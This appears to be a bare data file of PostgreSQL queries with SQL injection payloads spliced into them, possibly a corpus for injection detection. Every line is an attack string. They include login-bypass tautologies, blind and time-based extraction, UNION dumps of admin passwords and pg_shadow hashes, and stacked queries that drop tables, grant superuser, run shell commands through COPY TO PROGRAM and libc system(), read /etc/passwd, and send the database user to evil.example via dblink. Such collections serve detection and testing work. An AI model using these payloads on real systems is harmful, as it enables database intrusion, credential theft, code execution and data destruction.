SELECT id, title, price FROM products WHERE category_id = 1 OR 1=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=1 OR 1=1
DELETE FROM cart_items WHERE item_id = 1 OR 1=1
SELECT id, title, price FROM products WHERE category_id = 1 OR 1=1-- AND visible = true
SELECT * FROM invoices WHERE customer_no=1 OR 1=1--
DELETE FROM cart_items WHERE item_id = 1 OR 1=1--
SELECT id, title, price FROM products WHERE category_id = 7 OR 2>1 AND visible = true
SELECT * FROM invoices WHERE customer_no=7 OR 2>1
DELETE FROM cart_items WHERE item_id = 7 OR 2>1
SELECT id, title, price FROM products WHERE category_id = -1 OR 3=3 AND visible = true
SELECT * FROM invoices WHERE customer_no=-1 OR 3=3
DELETE FROM cart_items WHERE item_id = -1 OR 3=3
SELECT id, title, price FROM products WHERE category_id = 12 OR 'x'='x' AND visible = true
SELECT * FROM invoices WHERE customer_no=12 OR 'x'='x'
DELETE FROM cart_items WHERE item_id = 12 OR 'x'='x'
SELECT id, title, price FROM products WHERE category_id = 12 OR true-- AND visible = true
SELECT * FROM invoices WHERE customer_no=12 OR true--
DELETE FROM cart_items WHERE item_id = 12 OR true--
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=2 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=2
DELETE FROM cart_items WHERE item_id = 5 AND 1=2
SELECT id, title, price FROM products WHERE category_id = 5 AND 4=4 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 4=4
DELETE FROM cart_items WHERE item_id = 5 AND 4=4
SELECT id, title, price FROM products WHERE category_id = 5 OR NOT false AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR NOT false
DELETE FROM cart_items WHERE item_id = 5 OR NOT false
SELECT id, title, price FROM products WHERE category_id = 5 OR 1 IN (1,2) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR 1 IN (1,2)
DELETE FROM cart_items WHERE item_id = 5 OR 1 IN (1,2)
SELECT id, title, price FROM products WHERE category_id = 5 OR 3 BETWEEN 1 AND 9 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR 3 BETWEEN 1 AND 9
DELETE FROM cart_items WHERE item_id = 5 OR 3 BETWEEN 1 AND 9
SELECT id, title, price FROM products WHERE category_id = 5 OR 'abc' LIKE 'a%' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR 'abc' LIKE 'a%'
DELETE FROM cart_items WHERE item_id = 5 OR 'abc' LIKE 'a%'
SELECT id, title, price FROM products WHERE category_id = 5 OR 'abc' ~ '^a' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR 'abc' ~ '^a'
DELETE FROM cart_items WHERE item_id = 5 OR 'abc' ~ '^a'
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT 1)=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT 1)=1
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT 1)=1
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT COUNT(*) FROM information_schema.tables)>10 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT COUNT(*) FROM information_schema.tables)>10
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT COUNT(*) FROM information_schema.tables)>10
SELECT id, title, price FROM products WHERE category_id = 5 AND ASCII(SUBSTRING((SELECT current_database()),1,1))>100 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND ASCII(SUBSTRING((SELECT current_database()),1,1))>100
DELETE FROM cart_items WHERE item_id = 5 AND ASCII(SUBSTRING((SELECT current_database()),1,1))>100
SELECT id, title, price FROM products WHERE category_id = 5 AND ASCII(SUBSTR((SELECT passwd FROM admins LIMIT 1),2,1))=104 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND ASCII(SUBSTR((SELECT passwd FROM admins LIMIT 1),2,1))=104
DELETE FROM cart_items WHERE item_id = 5 AND ASCII(SUBSTR((SELECT passwd FROM admins LIMIT 1),2,1))=104
SELECT id, title, price FROM products WHERE category_id = 5 AND SUBSTRING(version(),1,10)='PostgreSQL' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND SUBSTRING(version(),1,10)='PostgreSQL'
DELETE FROM cart_items WHERE item_id = 5 AND SUBSTRING(version(),1,10)='PostgreSQL'
SELECT id, title, price FROM products WHERE category_id = 5 AND LENGTH(current_user)=8 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND LENGTH(current_user)=8
DELETE FROM cart_items WHERE item_id = 5 AND LENGTH(current_user)=8
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT LENGTH(passwd) FROM admins WHERE id=1)>20 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT LENGTH(passwd) FROM admins WHERE id=1)>20
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT LENGTH(passwd) FROM admins WHERE id=1)>20
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT 'a' FROM admins LIMIT 1)='a' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT 'a' FROM admins LIMIT 1)='a'
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT 'a' FROM admins LIMIT 1)='a'
SELECT id, title, price FROM products WHERE category_id = 5 AND EXISTS(SELECT 1 FROM pg_tables WHERE tablename='admins') AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND EXISTS(SELECT 1 FROM pg_tables WHERE tablename='admins')
DELETE FROM cart_items WHERE item_id = 5 AND EXISTS(SELECT 1 FROM pg_tables WHERE tablename='admins')
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT CASE WHEN (8=8) THEN 1 ELSE 1/0 END)=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT CASE WHEN (8=8) THEN 1 ELSE 1/0 END)=1
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT CASE WHEN (8=8) THEN 1 ELSE 1/0 END)=1
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=(CASE WHEN (SELECT COUNT(*) FROM pg_shadow)>0 THEN 1 ELSE 1/0 END) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=(CASE WHEN (SELECT COUNT(*) FROM pg_shadow)>0 THEN 1 ELSE 1/0 END)
DELETE FROM cart_items WHERE item_id = 5 AND 1=(CASE WHEN (SELECT COUNT(*) FROM pg_shadow)>0 THEN 1 ELSE 1/0 END)
SELECT id, title, price FROM products WHERE category_id = (CASE WHEN 4=4 THEN 5 ELSE 0 END) AND visible = true
SELECT * FROM invoices WHERE customer_no=(CASE WHEN 4=4 THEN 5 ELSE 0 END)
DELETE FROM cart_items WHERE item_id = (CASE WHEN 4=4 THEN 5 ELSE 0 END)
SELECT id, title, price FROM products WHERE category_id = 5/(CASE WHEN (SELECT usesuper FROM pg_user WHERE usename=current_user) THEN 1 ELSE 0 END) AND visible = true
SELECT * FROM invoices WHERE customer_no=5/(CASE WHEN (SELECT usesuper FROM pg_user WHERE usename=current_user) THEN 1 ELSE 0 END)
DELETE FROM cart_items WHERE item_id = 5/(CASE WHEN (SELECT usesuper FROM pg_user WHERE usename=current_user) THEN 1 ELSE 0 END)
SELECT id, title, price FROM products WHERE category_id = 5 AND version() LIKE 'Postgre%' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND version() LIKE 'Postgre%'
DELETE FROM cart_items WHERE item_id = 5 AND version() LIKE 'Postgre%'
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT usename FROM pg_user LIMIT 1) ~ '^p' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT usename FROM pg_user LIMIT 1) ~ '^p'
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT usename FROM pg_user LIMIT 1) ~ '^p'
SELECT id, title, price FROM products WHERE category_id = 5 AND get_byte((SELECT passwd FROM admins LIMIT 1)::bytea,0)>100 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND get_byte((SELECT passwd FROM admins LIMIT 1)::bytea,0)>100
DELETE FROM cart_items WHERE item_id = 5 AND get_byte((SELECT passwd FROM admins LIMIT 1)::bytea,0)>100
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT current_setting('is_superuser'))='on' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT current_setting('is_superuser'))='on'
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT current_setting('is_superuser'))='on'
SELECT id, title, price FROM products WHERE category_id = 5 AND left((SELECT rolname FROM pg_roles LIMIT 1),1)='p' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND left((SELECT rolname FROM pg_roles LIMIT 1),1)='p'
DELETE FROM cart_items WHERE item_id = 5 AND left((SELECT rolname FROM pg_roles LIMIT 1),1)='p'
SELECT id, title, price FROM products WHERE category_id = 5 GROUP BY id HAVING 4=4 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 GROUP BY id HAVING 4=4
DELETE FROM cart_items WHERE item_id = 5 GROUP BY id HAVING 4=4
SELECT id, title, price FROM products WHERE category_id = -1 UNION SELECT NULL,NULL,NULL AND visible = true
SELECT * FROM invoices WHERE customer_no=-1 UNION SELECT NULL,NULL,NULL
DELETE FROM cart_items WHERE item_id = -1 UNION SELECT NULL,NULL,NULL
SELECT id, title, price FROM products WHERE category_id = -1 UNION ALL SELECT NULL,NULL,NULL-- AND visible = true
SELECT * FROM invoices WHERE customer_no=-1 UNION ALL SELECT NULL,NULL,NULL--
DELETE FROM cart_items WHERE item_id = -1 UNION ALL SELECT NULL,NULL,NULL--
SELECT id, title, price FROM products WHERE category_id = -1 UNION SELECT 1,'2',3 AND visible = true
SELECT * FROM invoices WHERE customer_no=-1 UNION SELECT 1,'2',3
DELETE FROM cart_items WHERE item_id = -1 UNION SELECT 1,'2',3
SELECT id, title, price FROM products WHERE category_id = 0 UNION SELECT 1,version(),3-- AND visible = true
SELECT * FROM invoices WHERE customer_no=0 UNION SELECT 1,version(),3--
DELETE FROM cart_items WHERE item_id = 0 UNION SELECT 1,version(),3--
SELECT id, title, price FROM products WHERE category_id = 0 UNION SELECT 1,current_user,3 AND visible = true
SELECT * FROM invoices WHERE customer_no=0 UNION SELECT 1,current_user,3
DELETE FROM cart_items WHERE item_id = 0 UNION SELECT 1,current_user,3
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,table_name,3 FROM information_schema.tables-- AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,table_name,3 FROM information_schema.tables--
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,table_name,3 FROM information_schema.tables--
SELECT id, title, price FROM products WHERE category_id = -5 UNION ALL SELECT 1,string_agg(column_name,','),3 FROM information_schema.columns WHERE table_name='admins' AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION ALL SELECT 1,string_agg(column_name,','),3 FROM information_schema.columns WHERE table_name='admins'
DELETE FROM cart_items WHERE item_id = -5 UNION ALL SELECT 1,string_agg(column_name,','),3 FROM information_schema.columns WHERE table_name='admins'
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT NULL,login||':'||pw_hash,NULL FROM accounts AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT NULL,login||':'||pw_hash,NULL FROM accounts
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT NULL,login||':'||pw_hash,NULL FROM accounts
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT id,login,password FROM admins AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT id,login,password FROM admins
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT id,login,password FROM admins
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,pg_read_file('/etc/passwd'),3 AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,pg_read_file('/etc/passwd'),3
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,pg_read_file('/etc/passwd'),3
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,(SELECT password FROM admins LIMIT 1),3 AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,(SELECT password FROM admins LIMIT 1),3
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,(SELECT password FROM admins LIMIT 1),3
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT NULL,usename||chr(58)||passwd,NULL FROM pg_shadow AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT NULL,usename||chr(58)||passwd,NULL FROM pg_shadow
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT NULL,usename||chr(58)||passwd,NULL FROM pg_shadow
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT NULL,CHR(113)||CHR(113)||CHR(98),NULL AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT NULL,CHR(113)||CHR(113)||CHR(98),NULL
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT NULL,CHR(113)||CHR(113)||CHR(98),NULL
SELECT id, title, price FROM products WHERE category_id = -5/**/UNION/**/SELECT/**/NULL,NULL,NULL AND visible = true
SELECT * FROM invoices WHERE customer_no=-5/**/UNION/**/SELECT/**/NULL,NULL,NULL
DELETE FROM cart_items WHERE item_id = -5/**/UNION/**/SELECT/**/NULL,NULL,NULL
SELECT id, title, price FROM products WHERE category_id = -5 UnIoN aLl SeLeCt NULL,version(),NULL-- AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UnIoN aLl SeLeCt NULL,version(),NULL--
DELETE FROM cart_items WHERE item_id = -5 UnIoN aLl SeLeCt NULL,version(),NULL--
SELECT id, title, price FROM products WHERE category_id = 5 ORDER BY 10-- AND visible = true
SELECT * FROM invoices WHERE customer_no=5 ORDER BY 10--
DELETE FROM cart_items WHERE item_id = 5 ORDER BY 10--
SELECT id, title, price FROM products WHERE category_id = 5 ORDER BY 100 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 ORDER BY 100
DELETE FROM cart_items WHERE item_id = 5 ORDER BY 100
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,$$abc$$,3-- AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,$$abc$$,3--
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,$$abc$$,3--
SELECT id, title, price FROM products WHERE category_id = -5 UNION SELECT 1,relname,3 FROM pg_class WHERE relkind=CHR(114) AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION SELECT 1,relname,3 FROM pg_class WHERE relkind=CHR(114)
DELETE FROM cart_items WHERE item_id = -5 UNION SELECT 1,relname,3 FROM pg_class WHERE relkind=CHR(114)
SELECT id, title, price FROM products WHERE category_id = -5 UNION VALUES (1,'a',3) AND visible = true
SELECT * FROM invoices WHERE customer_no=-5 UNION VALUES (1,'a',3)
DELETE FROM cart_items WHERE item_id = -5 UNION VALUES (1,'a',3)
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=CAST((SELECT version()) AS int) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=CAST((SELECT version()) AS int)
DELETE FROM cart_items WHERE item_id = 5 AND 1=CAST((SELECT version()) AS int)
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=CAST((SELECT password FROM admins LIMIT 1) AS int) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=CAST((SELECT password FROM admins LIMIT 1) AS int)
DELETE FROM cart_items WHERE item_id = 5 AND 1=CAST((SELECT password FROM admins LIMIT 1) AS int)
SELECT id, title, price FROM products WHERE category_id = CAST((SELECT current_user) AS int) AND visible = true
SELECT * FROM invoices WHERE customer_no=CAST((SELECT current_user) AS int)
DELETE FROM cart_items WHERE item_id = CAST((SELECT current_user) AS int)
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=(SELECT table_name FROM information_schema.tables LIMIT 1)::int AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=(SELECT table_name FROM information_schema.tables LIMIT 1)::int
DELETE FROM cart_items WHERE item_id = 5 AND 1=(SELECT table_name FROM information_schema.tables LIMIT 1)::int
SELECT id, title, price FROM products WHERE category_id = 5 AND CAST('~'||(SELECT usename FROM pg_user LIMIT 1)||'~' AS numeric)=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND CAST('~'||(SELECT usename FROM pg_user LIMIT 1)||'~' AS numeric)=1
DELETE FROM cart_items WHERE item_id = 5 AND CAST('~'||(SELECT usename FROM pg_user LIMIT 1)||'~' AS numeric)=1
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=('a'||version())::int AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=('a'||version())::int
DELETE FROM cart_items WHERE item_id = 5 AND 1=('a'||version())::int
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT 1/(CASE WHEN (3=3) THEN 0 ELSE 1 END))=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT 1/(CASE WHEN (3=3) THEN 0 ELSE 1 END))=1
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT 1/(CASE WHEN (3=3) THEN 0 ELSE 1 END))=1
SELECT id, title, price FROM products WHERE category_id = 5 AND CAST(CHR(126)||VERSION()||CHR(126) AS NUMERIC)>0 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND CAST(CHR(126)||VERSION()||CHR(126) AS NUMERIC)>0
DELETE FROM cart_items WHERE item_id = 5 AND CAST(CHR(126)||VERSION()||CHR(126) AS NUMERIC)>0
SELECT id, title, price FROM products WHERE category_id = 5 AND (query_to_xml('select * from pg_user',true,true,''))::text LIKE '%postgres%' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (query_to_xml('select * from pg_user',true,true,''))::text LIKE '%postgres%'
DELETE FROM cart_items WHERE item_id = 5 AND (query_to_xml('select * from pg_user',true,true,''))::text LIKE '%postgres%'
SELECT id, title, price FROM products WHERE category_id = (SELECT CAST(array_to_string(array_agg(datname),':') AS int) FROM pg_database) AND visible = true
SELECT * FROM invoices WHERE customer_no=(SELECT CAST(array_to_string(array_agg(datname),':') AS int) FROM pg_database)
DELETE FROM cart_items WHERE item_id = (SELECT CAST(array_to_string(array_agg(datname),':') AS int) FROM pg_database)
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT 1 FROM pg_sleep(5))=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT 1 FROM pg_sleep(5))=1
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT 1 FROM pg_sleep(5))=1
SELECT id, title, price FROM products WHERE category_id = 5 OR (SELECT pg_sleep(3)) IS NULL AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR (SELECT pg_sleep(3)) IS NULL
DELETE FROM cart_items WHERE item_id = 5 OR (SELECT pg_sleep(3)) IS NULL
SELECT id, title, price FROM products WHERE category_id = (SELECT 5 FROM pg_sleep(5)) AND visible = true
SELECT * FROM invoices WHERE customer_no=(SELECT 5 FROM pg_sleep(5))
DELETE FROM cart_items WHERE item_id = (SELECT 5 FROM pg_sleep(5))
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=(CASE WHEN (1=1) THEN (SELECT 1 FROM pg_sleep(4)) ELSE 1 END) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=(CASE WHEN (1=1) THEN (SELECT 1 FROM pg_sleep(4)) ELSE 1 END)
DELETE FROM cart_items WHERE item_id = 5 AND 1=(CASE WHEN (1=1) THEN (SELECT 1 FROM pg_sleep(4)) ELSE 1 END)
SELECT id, title, price FROM products WHERE category_id = CASE WHEN (SELECT usesuper FROM pg_user WHERE usename='postgres') THEN (SELECT 1 FROM pg_sleep(2)) ELSE 5 END AND visible = true
SELECT * FROM invoices WHERE customer_no=CASE WHEN (SELECT usesuper FROM pg_user WHERE usename='postgres') THEN (SELECT 1 FROM pg_sleep(2)) ELSE 5 END
DELETE FROM cart_items WHERE item_id = CASE WHEN (SELECT usesuper FROM pg_user WHERE usename='postgres') THEN (SELECT 1 FROM pg_sleep(2)) ELSE 5 END
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT COUNT(*) FROM generate_series(1,10000000))>0 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT COUNT(*) FROM generate_series(1,10000000))>0
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT COUNT(*) FROM generate_series(1,10000000))>0
SELECT id, title, price FROM products WHERE category_id = 5; SELECT pg_sleep(5) AND visible = true
SELECT * FROM invoices WHERE customer_no=5; SELECT pg_sleep(5)
DELETE FROM cart_items WHERE item_id = 5; SELECT pg_sleep(5)
SELECT id, title, price FROM products WHERE category_id = 5; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END-- AND visible = true
SELECT * FROM invoices WHERE customer_no=5; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--
DELETE FROM cart_items WHERE item_id = 5; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--
SELECT id, title, price FROM products WHERE category_id = 5||pg_sleep(5) AND visible = true
SELECT * FROM invoices WHERE customer_no=5||pg_sleep(5)
DELETE FROM cart_items WHERE item_id = 5||pg_sleep(5)
SELECT id, title, price FROM products WHERE category_id = 5; DROP TABLE accounts AND visible = true
SELECT * FROM invoices WHERE customer_no=5; DROP TABLE accounts
DELETE FROM cart_items WHERE item_id = 5; DROP TABLE accounts
SELECT id, title, price FROM products WHERE category_id = 5; DROP TABLE accounts-- AND visible = true
SELECT * FROM invoices WHERE customer_no=5; DROP TABLE accounts--
DELETE FROM cart_items WHERE item_id = 5; DROP TABLE accounts--
SELECT id, title, price FROM products WHERE category_id = 5;INSERT INTO admins (login) VALUES ('eve') AND visible = true
SELECT * FROM invoices WHERE customer_no=5;INSERT INTO admins (login) VALUES ('eve')
DELETE FROM cart_items WHERE item_id = 5;INSERT INTO admins (login) VALUES ('eve')
SELECT id, title, price FROM products WHERE category_id = 5; UPDATE accounts SET role='admin' WHERE id=7-- AND visible = true
SELECT * FROM invoices WHERE customer_no=5; UPDATE accounts SET role='admin' WHERE id=7--
DELETE FROM cart_items WHERE item_id = 5; UPDATE accounts SET role='admin' WHERE id=7--
SELECT id, title, price FROM products WHERE category_id = 5; COPY (SELECT '') TO PROGRAM 'id' AND visible = true
SELECT * FROM invoices WHERE customer_no=5; COPY (SELECT '') TO PROGRAM 'id'
DELETE FROM cart_items WHERE item_id = 5; COPY (SELECT '') TO PROGRAM 'id'
SELECT id, title, price FROM products WHERE category_id = 5; CREATE TABLE x(t text); COPY x FROM '/etc/passwd' AND visible = true
SELECT * FROM invoices WHERE customer_no=5; CREATE TABLE x(t text); COPY x FROM '/etc/passwd'
DELETE FROM cart_items WHERE item_id = 5; CREATE TABLE x(t text); COPY x FROM '/etc/passwd'
SELECT id, title, price FROM products WHERE category_id = 5; ALTER USER app SUPERUSER AND visible = true
SELECT * FROM invoices WHERE customer_no=5; ALTER USER app SUPERUSER
DELETE FROM cart_items WHERE item_id = 5; ALTER USER app SUPERUSER
SELECT id, title, price FROM products WHERE category_id = 5; CREATE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE c STRICT AND visible = true
SELECT * FROM invoices WHERE customer_no=5; CREATE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE c STRICT
DELETE FROM cart_items WHERE item_id = 5; CREATE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE c STRICT
SELECT id, title, price FROM products WHERE category_id = 5; DO $$ BEGIN PERFORM 1; END $$ AND visible = true
SELECT * FROM invoices WHERE customer_no=5; DO $$ BEGIN PERFORM 1; END $$
DELETE FROM cart_items WHERE item_id = 5; DO $$ BEGIN PERFORM 1; END $$
SELECT id, title, price FROM products WHERE category_id = 5; SELECT lo_import('/etc/passwd') AND visible = true
SELECT * FROM invoices WHERE customer_no=5; SELECT lo_import('/etc/passwd')
DELETE FROM cart_items WHERE item_id = 5; SELECT lo_import('/etc/passwd')
SELECT id, title, price FROM products WHERE category_id = (SELECT password FROM admins LIMIT 1)::int AND visible = true
SELECT * FROM invoices WHERE customer_no=(SELECT password FROM admins LIMIT 1)::int
DELETE FROM cart_items WHERE item_id = (SELECT password FROM admins LIMIT 1)::int
SELECT id, title, price FROM products WHERE category_id = (SELECT (CHR(113)||CHR(113)||(CASE WHEN (4=4) THEN '1' ELSE '0' END)||CHR(113))) AND visible = true
SELECT * FROM invoices WHERE customer_no=(SELECT (CHR(113)||CHR(113)||(CASE WHEN (4=4) THEN '1' ELSE '0' END)||CHR(113)))
DELETE FROM cart_items WHERE item_id = (SELECT (CHR(113)||CHR(113)||(CASE WHEN (4=4) THEN '1' ELSE '0' END)||CHR(113)))
SELECT id, title, price FROM products WHERE category_id = 5 AND (SELECT dblink_connect('host=evil.example user='||current_user)) IS NOT NULL AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND (SELECT dblink_connect('host=evil.example user='||current_user)) IS NOT NULL
DELETE FROM cart_items WHERE item_id = 5 AND (SELECT dblink_connect('host=evil.example user='||current_user)) IS NOT NULL
SELECT id, title, price FROM products WHERE category_id = 5 AND CHR(97)||CHR(100)=(SELECT login FROM accounts LIMIT 1) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND CHR(97)||CHR(100)=(SELECT login FROM accounts LIMIT 1)
DELETE FROM cart_items WHERE item_id = 5 AND CHR(97)||CHR(100)=(SELECT login FROM accounts LIMIT 1)
SELECT id, title, price FROM products WHERE category_id = 5/**/OR/**/1=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5/**/OR/**/1=1
DELETE FROM cart_items WHERE item_id = 5/**/OR/**/1=1
SELECT id, title, price FROM products WHERE category_id = 5 oR 1=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 oR 1=1
DELETE FROM cart_items WHERE item_id = 5 oR 1=1
SELECT id, title, price FROM products WHERE category_id = 5 OR/*x*/1=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR/*x*/1=1
DELETE FROM cart_items WHERE item_id = 5 OR/*x*/1=1
SELECT id, title, price FROM products WHERE category_id = 5 OR 1.0=1.0 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR 1.0=1.0
DELETE FROM cart_items WHERE item_id = 5 OR 1.0=1.0
SELECT id, title, price FROM products WHERE category_id = 5 OR (1)=(1) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR (1)=(1)
DELETE FROM cart_items WHERE item_id = 5 OR (1)=(1)
SELECT id, title, price FROM products WHERE category_id = 5 OR 2-1=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR 2-1=1
DELETE FROM cart_items WHERE item_id = 5 OR 2-1=1
SELECT id, title, price FROM products WHERE category_id = 5 OR id=id AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR id=id
DELETE FROM cart_items WHERE item_id = 5 OR id=id
SELECT id, title, price FROM products WHERE category_id = 5 OR md5('a')=md5('a') AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR md5('a')=md5('a')
DELETE FROM cart_items WHERE item_id = 5 OR md5('a')=md5('a')
SELECT id, title, price FROM products WHERE category_id = 5 AND NOT(NOT(1=1)) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND NOT(NOT(1=1))
DELETE FROM cart_items WHERE item_id = 5 AND NOT(NOT(1=1))
SELECT id, title, price FROM products WHERE category_id = 5 OR $$a$$=$$a$$ AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR $$a$$=$$a$$
DELETE FROM cart_items WHERE item_id = 5 OR $$a$$=$$a$$
SELECT id, title, price FROM products WHERE category_id = 5 OR 'a'||'b'='ab' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR 'a'||'b'='ab'
DELETE FROM cart_items WHERE item_id = 5 OR 'a'||'b'='ab'
SELECT id, title, price FROM products WHERE category_id = 5 OR '1'::int=1 AND visible = true
SELECT * FROM invoices WHERE customer_no=5 OR '1'::int=1
DELETE FROM cart_items WHERE item_id = 5 OR '1'::int=1
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR 'a'='a' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR 'a'='a'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR 'a'='a' AND site = 4
SELECT id, name FROM customers WHERE name ILIKE '%x' OR 'a'='a%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = '' OR 1=1--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' OR 1=1--'
UPDATE visits SET hits = hits + 1 WHERE page = '' OR 1=1--' AND site = 4
SELECT id, name FROM customers WHERE name ILIKE '%' OR 1=1--%' AND deleted_at IS NULL LIMIT 20
INSERT INTO feedback (author, message, stars) VALUES ('' OR 1=1--', 'nice', 5)
UPDATE members SET nickname = '' OR 1=1--', updated_at = now() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'admin'--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'admin'--'
UPDATE visits SET hits = hits + 1 WHERE page = 'admin'--' AND site = 4
SELECT id, name FROM customers WHERE name ILIKE '%admin'--%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = 'admin'/*' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'admin'/*'
UPDATE visits SET hits = hits + 1 WHERE page = 'admin'/*' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR '5'='5' AND u.pw_hash = 'd41d8cd98f00b204'
